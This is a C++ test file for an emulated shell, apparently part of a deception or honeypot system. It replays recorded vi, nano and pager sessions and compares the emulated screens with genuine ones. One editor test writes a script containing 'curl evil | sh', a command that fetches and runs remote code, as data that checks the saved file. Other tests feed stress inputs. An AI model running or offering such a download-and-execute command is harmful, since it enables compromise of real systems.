// Replays conversations with genuine full-screen programs (test/differential/shell/
// record_screens.py): the bytes that come back, and the screens that they draw.
#include <algorithm>
#include <fstream>
#include <iostream>
#include <map>
#include <optional>

#include <gtest/gtest.h>

#include "shell/cmd/golden.h"
#include "shell/cmd/keyboard.h"
#include "shell/cmd/screen_image.h"
#include "shell/cmd/text.h"
#include "shell/command.h"
#include "shell/console.h"

namespace decnet::shell::cmd {
namespace {

std::string unescape(const std::string& text) {
  std::string out;
  for (std::size_t at = 0; at < text.size(); ++at) {
    if (text[at] != '\\' || at + 1 >= text.size()) {
      out += text[at];
      continue;
    }
    const char kind = text[++at];
    if (kind == 'x') {
      out += plain_text(text.substr(at - 1, 4));
      at += 2;
      continue;
    }
    out += kind == 'e'   ? '\033'
           : kind == 'r' ? '\r'
           : kind == 'n' ? '\n'
           : kind == 't' ? '\t'
                         : kind;
  }
  return out;
}

std::string escape(const std::string& bytes) {
  std::string out;
  for (const char byte : bytes) {
    const auto code = static_cast<unsigned char>(byte);
    const std::size_t named = std::string_view("\033\r\n\t\\").find(byte);
    if (named != std::string_view::npos)
      out += std::string("\\") + "ernt\\"[named];
    else if (code < 0x20 || code >= 0x7f)
      out += text_of("\\x%02x", code);
    else
      out += byte;
  }
  return out;
}

// A byte, or an escape sequence, as the recorder sends them.
std::vector<std::string> keys_of(const std::string& data) {
  std::vector<std::string> keys;
  for (std::size_t at = 0; at < data.size();) {
    std::size_t size = 1;
    if (data[at] == '\033' && at + 1 < data.size() && data[at + 1] == 'O') size = 3;
    if (data[at] == '\033' && at + 1 < data.size() && data[at + 1] == '[') {
      size = 2;
      while (at + size < data.size() &&
             std::string_view("0123456789;").find(data[at + size]) != std::string_view::npos)
        ++size;
      ++size;
    }
    keys.push_back(data.substr(at, size));
    at += size;
  }
  return keys;
}

std::map<std::string, std::string> more_files() {
  std::string lines;
  for (int n = 1; n <= 100; ++n) lines += "line " + std::to_string(n) + "\n";
  return {{"long.txt", lines},
          {"wide.txt",
           std::string(70, 'x') + "\tafter the tab and then much more of the line\nshort\n"},
          {"elf", std::string("\177ELF\2\1\1") + std::string(57, '\0') + "\3\4\xff\xfe\n"},
          {"utf8.txt", "na\xc3\xafve \xe2\x82\xac \xff end\nb\bbo\bol\bld _\bu_\bn plain\n"},
          {"words.c", "int main(void) {\n\tint one = 1;\n\treturn one;\n}\n"}};
}

class Conversation {
 public:
  explicit Conversation(const std::string& command) {
    MachineFacts facts;
    facts.answers = answers_of_pack();
    facts.persona = std::make_shared<persona::Persona>(
        persona::make_persona({.name = "web-03", .seed = 42, .deployed_at = clock_.now()}));
    facts.clock = &clock_;
    machine_.emplace(std::move(facts));
    FileSystem& files = machine_->files();
    build_tree(files);
    for (const auto& [name, text] : more_files())
      EXPECT_TRUE(files.write_file("/d/" + name, text, {}, 0644));
    for (const std::string_view name : command_names())
      files.seed_file("/usr/bin/" + std::string(name), "\177ELF", 0755, 0, 0, {});
    for (const char* name : {"/bin/bash", "/bin/sh"})
      files.seed_file(name, "\177ELF", 0755, 0, 0, {});
    files.seed_directory("/root", 0700, 0, 0, {});
    files.seed_directory("/tmp", 01777, 0, 0, {});
    console_.emplace(
        *machine_, ConsoleRequest{.command = "cd /d\n" + command,
                                  .environment = {{"LC_ALL", "C.UTF-8"}, {"SHELL", "/bin/bash"}}});
  }

  std::string settle() {
    std::string out;
    for (int i = 0; i < 400; ++i) {
      const bool ran = machine_->run();
      out += console_->take_output();
      if (ran) continue;
      const auto at = machine_->wakes_at();
      if (!at || *at - clock_.now() > Duration{300'000}) break;
      clock_.advance(std::max<Duration>(Duration{1}, *at - clock_.now()));
    }
    return out;
  }

  std::string file(const std::string& path) {
    return machine_->files().read_file(path, {}).value_or("(none)");
  }

  std::string type(const std::string& keys) {
    std::string out;
    for (const std::string& key : keys_of(keys)) {
      if (console_->ended()) break;
      console_->input(key);
      out += settle();
    }
    return out;
  }

 private:
  FakeClock clock_;
  std::optional<Machine> machine_;
  std::optional<Console> console_;
};

struct Distance {
  int all = 0, bytes = 0, screens = 0;
};

Distance replay(const std::string& name) {
  std::ifstream file("testdata/" + name + ".steps", std::ios::binary);
  std::optional<Conversation> talk;
  std::optional<ScreenImage> ours, theirs;
  Distance distance;
  std::string command;
  for (std::string line; std::getline(file, line);) {
    if (line == "%%") {
      talk.reset();
      continue;
    }
    const std::size_t tab = line.find('\t');
    const std::string step = line.substr(0, tab), genuine = line.substr(tab + 1);
    std::string got;
    if (!talk) {
      command = step;
      talk.emplace(step.substr(2));
      ours.emplace(24, 80);
      theirs.emplace(24, 80);
      got = talk->settle();
    } else {
      got = talk->type(unescape(step));
    }
    ours->feed(got);
    theirs->feed(unescape(genuine));
    ++distance.all;
    const bool same_screen = ours->text() == theirs->text();
    if (escape(got) != genuine) ++distance.bytes;
    if (!same_screen) ++distance.screens;
    if (escape(got) == genuine && same_screen) continue;
    if (!same_screen || std::getenv("SHOW_BYTES") != nullptr) {
      std::cout << "--- " << name << ": " << command << " | " << step << "\n"
                << genuine.substr(0, 1500) << "\n"
                << escape(got).substr(0, 1500) << "\n";
    }
    if (!same_screen && std::getenv("SHOW_SCREENS") != nullptr)
      std::cout << theirs->text() << "\n=====\n" << ours->text() << "\n";
  }
  std::cout << name << ": of " << distance.all << " steps " << distance.bytes
            << " differ in bytes, " << distance.screens << " in what is seen\n";
  return distance;
}

TEST(Editors, write_what_was_typed) {
  Conversation vi("vi x.sh");
  vi.settle();
  vi.type("i#!/bin/sh\rcurl evil | sh\033:wq\r");
  EXPECT_EQ(vi.file("/d/x.sh"), "#!/bin/sh\ncurl evil | sh\n");
  Conversation nano("nano y.sh");
  nano.settle();
  nano.type("#!/bin/sh\recho hi\x0f\r\x18");
  EXPECT_EQ(nano.file("/d/y.sh"), "#!/bin/sh\necho hi\n");
}

TEST(Editors, keep_within_their_limits) {
  Conversation vi("vi");
  vi.settle();
  vi.type("ia\033yy99999p99999p99999p:q!\r");
  Conversation broken("vi elf");
  broken.settle();
  broken.type(":%s/\\(a*\\)*b/x/g\r:99999999999999999999\r:1,99999999999d\r99999999999999x:q!\r");
  Conversation nano("nano elf");
  nano.settle();
  nano.type(
      "\x0b\x0b\x15\x15\x15\x1f"
      "99999999999999999999\r\x18n");
}

// Only ever lowered.
constexpr int kPagerBytesApartMax = 8, kPagerScreensApartMax = 6;

TEST(Screens, pagers_page_as_genuine_ones) {
  const Distance distance = replay("pager");
  EXPECT_GT(distance.all, 200);
  EXPECT_LE(distance.bytes, kPagerBytesApartMax);
  EXPECT_LE(distance.screens, kPagerScreensApartMax);
}

constexpr int kViBytesApartMax = 30, kViScreensApartMax = 9;

TEST(Screens, vi_edits_as_the_genuine_one) {
  const Distance distance = replay("vi");
  EXPECT_GT(distance.all, 120);
  EXPECT_LE(distance.bytes, kViBytesApartMax);
  EXPECT_LE(distance.screens, kViScreensApartMax);
}

constexpr int kNanoScreensApartMax = 4;  // It draws in other ways; what is seen counts.

TEST(Screens, nano_edits_as_the_genuine_one) {
  const Distance distance = replay("nano");
  EXPECT_GT(distance.all, 100);
  EXPECT_LE(distance.screens, kNanoScreensApartMax);
}

}  // namespace
}  // namespace decnet::shell::cmd
